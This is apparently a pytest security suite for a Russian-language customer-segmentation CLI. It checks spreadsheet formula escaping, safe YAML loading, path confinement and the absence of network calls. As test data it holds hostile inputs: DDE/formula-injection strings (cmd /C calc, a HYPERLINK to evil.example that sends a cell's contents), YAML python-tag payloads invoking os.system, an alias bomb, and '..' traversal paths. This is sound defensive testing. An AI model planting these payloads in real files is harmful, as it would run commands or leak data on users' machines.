"""Security: what comes from an export or a config can never run code, reach the network
or write outside the output folder.

- formula injection: every text cell of every CSV and xlsx output is safe to open in a
  spreadsheet, whatever the company, contact, product or rejected value said;
- YAML is read with a safe loader: ``!!python/...`` tags are refused (exit 2), nothing runs;
- paths with ``..`` in the config or hostile names in the data do not make segtool write
  anywhere but ``--out`` (and the workspace when asked);
- no network: a full run with every socket forbidden.
"""

from __future__ import annotations

import csv
import io
import os
import shutil
import socket
from pathlib import Path

import openpyxl
import pytest
from clirun import Result, assert_one_error, cli, segtool_cmd  # noqa: F401 - shared CLI test helpers

from segtool.errors import EXIT_DATA, EXIT_OK, EXIT_USAGE
from segtool.playbook import DEFAULT_PLAYBOOK

RISKY = ("=", "+", "-", "@", "\t", "\r")
PHONE_CHARS = set("+0123456789 ()-.")

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Нажми")',
    "+7+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+2",
    "\r=1+2",
    "=1+2",
]


def _csv_field(text: str) -> str:
    """Quote a value for a ';' CSV (hostile values hold quotes, tabs and CRs)."""
    return '"' + text.replace('"', '""') + '"'


def hostile_project(folder: Path) -> Path:
    """Orders and contacts whose every text column carries a formula."""
    folder.mkdir(parents=True, exist_ok=True)
    lines = ["ИНН;Контрагент;Номер заказа;Дата;Категория;Товар;Сумма"]
    contacts = ["ИНН;Компания;ФИО;Должность;Телефон;Email;Адрес;Ответственный"]
    for i, evil in enumerate(HOSTILE):
        cid = f"00{i}"
        for k, day in enumerate(("05.01.2026", "05.04.2026", "05.08.2026")[: 1 + i % 3]):
            lines.append(
                ";".join(
                    [
                        cid,
                        _csv_field(evil),
                        f"{cid}-{k}",
                        day,
                        _csv_field(evil),
                        _csv_field(evil),
                        f"{1000 + 10 * i}",
                    ]
                )
            )
        contacts.append(
            ";".join(
                [
                    cid,
                    _csv_field(evil),
                    _csv_field(evil),
                    "Директор",
                    _csv_field(evil if i % 2 else "+7 (900) 000-00-0" + str(i)),
                    _csv_field(evil if i % 3 else f"user{i}@example.com"),
                    _csv_field(evil),
                    _csv_field(evil),
                ]
            )
        )
    # a rejected row whose bad value is a formula: it is copied into rejects.csv
    lines.append(";".join(["099", "ООО Плохая", "X", "01.02.2026", "", "", _csv_field(HOSTILE[0])]))
    # a lead (contacts only) with hostile names: mail tasks and data quality rows
    contacts.append(
        ";".join(["777", _csv_field(HOSTILE[2]), _csv_field(HOSTILE[3]), "", "", "", "", ""])
    )
    (folder / "orders.csv").write_text("\n".join(lines) + "\n", encoding="utf-8")
    (folder / "contacts.csv").write_text("\n".join(contacts) + "\n", encoding="utf-8")
    config = folder / "segtool.yaml"
    config.write_text(
        "language: ru\ninputs:\n  orders: {path: orders.csv}\n  contacts: {path: contacts.csv}\n"
        "limits: {max_reject_rate: 0.5}\n",
        encoding="utf-8",
    )
    return config


def _is_number(text: str) -> bool:
    try:
        float(text)
        return True
    except ValueError:
        return False


def _unsafe_csv_cells(path: Path) -> list[tuple[str, int, str, str]]:
    text = path.read_text(encoding="utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    header, body = rows[0], rows[1:]
    bad = []
    for n, row in enumerate(body, start=2):
        for name, cell in zip(header, row, strict=False):
            if not cell.startswith(RISKY) or _is_number(cell):
                continue
            bad.append((path.name, n, name, cell))  # phone numbers included
    return bad


def _unsafe_xlsx_cells(path: Path) -> list[tuple[str, str, str]]:
    wb = openpyxl.load_workbook(path)
    bad = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    bad.append((f"{path.name}[{ws.title}]", cell.coordinate, str(cell.value)))
                elif isinstance(cell.value, str) and cell.value.startswith(RISKY):
                    if set(cell.value) <= PHONE_CHARS:
                        continue
                    bad.append((f"{path.name}[{ws.title}]", cell.coordinate, cell.value))
    return bad


@pytest.fixture(scope="module")
def hostile_run(tmp_path_factory):
    """One full run over the hostile exports (CLI in a subprocess, like cron)."""
    import subprocess

    base = tmp_path_factory.mktemp("hostile")
    config = hostile_project(base / "project")
    out = base / "out"
    done = subprocess.run(
        segtool_cmd(
            "run",
            "--config",
            str(config),
            "--out",
            str(out),
            "--as-of",
            "2026-10-31",
            "--no-history",
        ),  # every sequence step issued at once
        capture_output=True,
        text=True,
        timeout=120,
        env={**os.environ, "NO_COLOR": "1"},
    )
    assert done.returncode in (EXIT_OK, EXIT_DATA), done.stderr
    assert "Traceback" not in done.stderr
    return out


def test_hostile_values_reach_the_outputs(hostile_run):
    """The check below is not vacuous: the hostile text is in the files, escaped."""
    segments = (hostile_run / "segments.csv").read_text(encoding="utf-8")
    assert "'=HYPERLINK(" in segments
    rejects = (hostile_run / "rejects.csv").read_text(encoding="utf-8")
    assert "'=HYPERLINK(" in rejects
    tasks = (hostile_run / "call_tasks.csv").read_text(encoding="utf-8") + (
        hostile_run / "mail_tasks.csv"
    ).read_text(encoding="utf-8")
    assert "'@SUM(" in tasks or "'-2+3" in tasks


def test_every_csv_text_cell_is_escaped(hostile_run):
    files = sorted(hostile_run.glob("*.csv"))
    assert {p.name for p in files} >= {
        "segments.csv",
        "call_tasks.csv",
        "mail_tasks.csv",
        "data_quality.csv",
        "rejects.csv",
    }
    bad = [cell for path in files for cell in _unsafe_csv_cells(path)]
    assert bad == []


def test_every_xlsx_text_cell_is_escaped(hostile_run):
    files = sorted(hostile_run.glob("*.xlsx"))
    assert {p.name for p in files} >= {"segments.xlsx", "call_tasks.xlsx", "mail_tasks.xlsx"}
    bad = [cell for path in files for cell in _unsafe_xlsx_cells(path)]
    assert bad == []
    # the hostile company (a new customer whose first order is months old) gets an e-mail
    # task, not a call, since welcome calls go to new customers of the last 30 days only
    cells = [
        c.value
        for name in ("call_tasks.xlsx", "mail_tasks.xlsx")
        for row in openpyxl.load_workbook(hostile_run / name).active.iter_rows()
        for c in row
    ]
    assert any(isinstance(v, str) and v.startswith("'=HYPERLINK(") for v in cells)


def test_workspace_rejects_csv_is_escaped(tmp_path, capsys):
    config = hostile_project(tmp_path / "project")
    result = cli(capsys, "ingest", "--config", config, "--workspace", tmp_path / "ws")
    assert result.code in (EXIT_OK, EXIT_DATA), result.err
    assert _unsafe_csv_cells(tmp_path / "ws" / "rejects.csv") == []
    assert "'=HYPERLINK(" in (tmp_path / "ws" / "rejects.csv").read_text(encoding="utf-8")


def test_csv_escaping_with_semicolon_and_cp1251(tmp_path, capsys):
    config = hostile_project(tmp_path / "project")
    with open(config, "a", encoding="utf-8") as handle:
        handle.write("export: {csv: {delimiter: ';', bom: true, encoding: cp1251}}\n")
    out = tmp_path / "out"
    result = cli(capsys, "run", "--config", config, "--out", out, "--format", "csv")
    assert result.code in (EXIT_OK, EXIT_DATA), result.err
    for path in out.glob("*.csv"):
        text = path.read_bytes().decode(
            "cp1251" if path.name != "rejects.csv" else "utf-8", errors="replace"
        )
        for row in csv.reader(io.StringIO(text.lstrip("\ufeff"), newline=""), delimiter=";"):
            for cell in row:
                assert not cell.startswith(RISKY) or _is_number(cell), (path.name, cell)


# -- YAML ---------------------------------------------------------------------------------
PAYLOADS = [
    "!!python/object/apply:os.system ['touch {marker}']",
    "!!python/object/new:subprocess.check_output [['touch', '{marker}']]",
    "!!python/name:os.system",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_config_yaml_cannot_run_code(tmp_path, capsys, payload):
    marker = tmp_path / "PWNED"
    (tmp_path / "orders.csv").write_text("ИНН;Дата;Сумма\n1;01.02.2024;5\n", encoding="utf-8")
    config = tmp_path / "segtool.yaml"
    config.write_text(
        "inputs:\n  orders: {path: orders.csv}\nlanguage: " + payload.format(marker=marker) + "\n",
        encoding="utf-8",
    )
    result = cli(capsys, "ingest", "--config", config)
    assert result.code == EXIT_USAGE
    lines = [ln for ln in result.err.splitlines() if ln.startswith("error:")]
    assert len(lines) == 1 and "segtool.yaml:3" in lines[0] and "not allowed" in lines[0]
    assert not marker.exists()


def test_playbook_yaml_cannot_run_code(tmp_path, capsys):
    marker = tmp_path / "PWNED"
    (tmp_path / "orders.csv").write_text("ИНН;Дата;Сумма\n1;01.02.2024;5\n", encoding="utf-8")
    config = tmp_path / "segtool.yaml"
    config.write_text(
        "inputs:\n  orders: {path: orders.csv}\nplaybook: playbook.yaml\n", encoding="utf-8"
    )
    (tmp_path / "playbook.yaml").write_text(
        f"tactics: !!python/object/apply:os.system ['touch {marker}']\n", encoding="utf-8"
    )
    result = cli(capsys, "run", "--config", config, "--out", tmp_path / "out")
    assert result.code == EXIT_USAGE, result.err
    assert "playbook.yaml" in result.err and "Traceback" not in result.err
    assert not marker.exists()
    assert not (tmp_path / "out" / "segments.csv").exists()


def test_yaml_alias_bomb_is_refused_or_harmless(tmp_path, capsys):
    """A 'billion laughs' of YAML aliases must not hang or eat memory."""
    lines = ["inputs:\n  orders: {path: orders.csv}", "a: &a [x, x, x, x, x, x, x, x, x]"]
    for i in range(1, 9):
        prev = chr(ord("a") + i - 1)
        cur = chr(ord("a") + i)
        lines.append(f"{cur}: &{cur} [*{prev}, *{prev}, *{prev}, *{prev}, *{prev}, *{prev}]")
    (tmp_path / "orders.csv").write_text("ИНН;Дата;Сумма\n1;01.02.2024;5\n", encoding="utf-8")
    config = tmp_path / "segtool.yaml"
    config.write_text("\n".join(lines) + "\n", encoding="utf-8")
    result = cli(capsys, "ingest", "--config", config)
    assert result.code == EXIT_USAGE  # refused on its size, before anything is built
    assert "aliases that expand to more than 100,000 values" in result.err
    assert "Traceback" not in result.err and len(result.err.splitlines()) == 1


@pytest.mark.parametrize("key", ["inference:\n  roles:\n    purchaser", "segments_extra"])
def test_yaml_alias_bomb_as_a_list_value_is_refused_at_once(tmp_path, capsys, key):
    """The anchors form the value of a real key: validation (and its error message's repr
    of the value) would walk all 9^8 items; refused before that, in well under a second."""
    import time

    lines = ["a: &a [x, x, x, x, x, x, x, x, x]"]
    for i in range(1, 9):
        prev, cur = chr(ord("a") + i - 1), chr(ord("a") + i)
        lines.append(f"{cur}: &{cur} [*{prev}, *{prev}, *{prev}, *{prev}, *{prev}, *{prev}]")
    body = "\n".join("  " + line.replace(": &", "_: &") for line in lines)
    text = f"inputs:\n  orders: {{path: orders.csv}}\nx-anchors:\n{body}\n{key}: *i\n"
    config = tmp_path / "segtool.yaml"
    config.write_text(text, encoding="utf-8")
    start = time.monotonic()
    result = cli(capsys, "ingest", "--config", config)
    assert time.monotonic() - start < 5
    assert_one_error(result, EXIT_USAGE, "segtool.yaml", "aliases that expand")
    assert len(result.err) < 300


# -- paths --------------------------------------------------------------------------------
def _files_under(root: Path) -> set[Path]:
    return {p for p in root.rglob("*") if p.is_file()}


def test_dotdot_paths_and_hostile_names_write_only_into_out(tmp_path, capsys):
    root = tmp_path / "root"
    project = root / "a" / "b" / "project"
    config = hostile_project(project)
    (root / "a" / "b" / "shared").mkdir()
    (project / "orders.csv").rename(root / "a" / "b" / "shared" / "orders.csv")
    shutil.copy(DEFAULT_PLAYBOOK, root / "a" / "playbook.yaml")
    config.write_text(
        "inputs:\n"
        "  orders: {path: ../shared/../shared/orders.csv}\n"
        "  contacts: {path: ./../project/contacts.csv}\n"
        "playbook: ../../b/../playbook.yaml\n"
        "segments_extra:\n  - {name: ../../../../escaped, when: {}}\n"
        "limits: {max_reject_rate: 1}\n",
        encoding="utf-8",
    )
    before = _files_under(tmp_path)
    out = root / "a" / "b" / "out"
    result = cli(capsys, "run", "--config", config, "--out", out, "--as-of", "2026-10-31")
    assert result.code in (EXIT_OK, EXIT_DATA), result.err
    created = _files_under(tmp_path) - before - _history_files(config)
    assert created, "the run wrote nothing"
    outside = sorted(str(p) for p in created if out not in p.parents)
    assert outside == []
    assert not list(tmp_path.rglob("escaped*"))


def _history_files(config: Path) -> set[Path]:
    """The contact history beside the config (history.path), the one file a run keeps
    outside --out."""
    return {config.parent / "segtool-history.db", config.parent / "segtool-history.db.lock"}


def test_run_without_workspace_writes_nothing_beside_the_config(tmp_path, capsys):
    config = hostile_project(tmp_path / "project")
    config.write_text(
        config.read_text(encoding="utf-8") + "workspace: ../../../ws-escape\n", encoding="utf-8"
    )
    before = _files_under(tmp_path)
    out = tmp_path / "out"
    result = cli(capsys, "run", "--config", config, "--out", out, "--as-of", "2026-10-31")
    assert result.code in (EXIT_OK, EXIT_DATA), result.err
    created = _files_under(tmp_path) - before - _history_files(config)
    assert created and all(out in p.parents for p in created)
    assert not (tmp_path.parent.parent / "ws-escape").exists()


# -- network ------------------------------------------------------------------------------
def test_full_run_makes_no_network_access(tmp_path, capsys, monkeypatch):
    calls: list[str] = []

    def forbidden(name):
        def _raise(*args, **kwargs):
            calls.append(name)
            raise OSError(f"network access attempted: {name}")

        return _raise

    class NoSocket(socket.socket):
        def __init__(self, *args, **kwargs):
            calls.append("socket")
            raise OSError("network access attempted: socket")

    monkeypatch.setattr(socket, "socket", NoSocket)
    for name in ("create_connection", "getaddrinfo", "gethostbyname"):
        monkeypatch.setattr(socket, name, forbidden(name))
    config = hostile_project(tmp_path / "project")
    out = tmp_path / "out"
    result = cli(
        capsys,
        "run",
        "--config",
        config,
        "--out",
        out,
        "--as-of",
        "2026-10-31",
        "--workspace",
        tmp_path / "ws",
    )
    assert result.code in (EXIT_OK, EXIT_DATA), result.err
    assert calls == []
    assert (out / "segments.xlsx").exists() and (out / "call_tasks.csv").exists()
